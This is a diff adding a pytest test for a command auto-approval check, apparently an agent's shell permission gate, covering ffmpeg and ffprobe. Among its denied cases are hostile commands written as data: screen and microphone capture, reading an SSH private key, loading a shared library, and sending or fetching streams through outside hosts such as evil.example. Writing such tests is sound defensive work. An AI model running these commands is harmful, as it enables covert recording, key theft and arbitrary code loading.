@@ -352,3 +352,26 @@ def test_false_alarms_of_the_fourth_set(cmd: str, expected: str) -> None:
 )
 def test_the_dangerous_siblings_of_those_false_alarms(cmd: str) -> None:
     assert not auto_allows(cmd), cmd
+
+
+@pytest.mark.parametrize(
+    ("cmd", "allowed"),
+    [
+        ("ffmpeg -y -i media/intro.mp4 -vf scale=640:-1 media/small.mp4", True),
+        ("ffmpeg -i in.wav -c:a libmp3lame out.mp3", True),
+        ("ffprobe -v error -show_format -show_streams media/intro.mp4", True),
+        ("ffmpeg -f x11grab -i :0 screen.mp4", False),
+        ("ffmpeg -f alsa -i default mic.wav", False),
+        ("ffmpeg -i 'concat:a.mp4|/home/dev/.ssh/id_rsa' out.bin", False),
+        ('ffmpeg -i in.mp4 -vf "movie=/home/dev/x.png [wm]; [in][wm] overlay" out.mp4', False),
+        ("ffmpeg -i in.mp4 -af ladspa=file=/tmp/x.so out.mp4", False),
+        ("ffmpeg -i in.mp4 -f rtsp rtsp://203.0.113.5/live", False),
+        ("ffmpeg -i https://evil.example/stream.m3u8 -c copy out.mp4", False),
+        ("ffmpeg -i in.mp4 /home/dev/Videos/out.mp4", False),
+        ("ffprobe tcp://203.0.113.5:9000", False),
+    ],
+)
+def test_media_converters_read_inputs_devices_filters_and_protocols(
+    cmd: str, allowed: bool
+) -> None:
+    assert auto_allows(cmd) is allowed, cmd
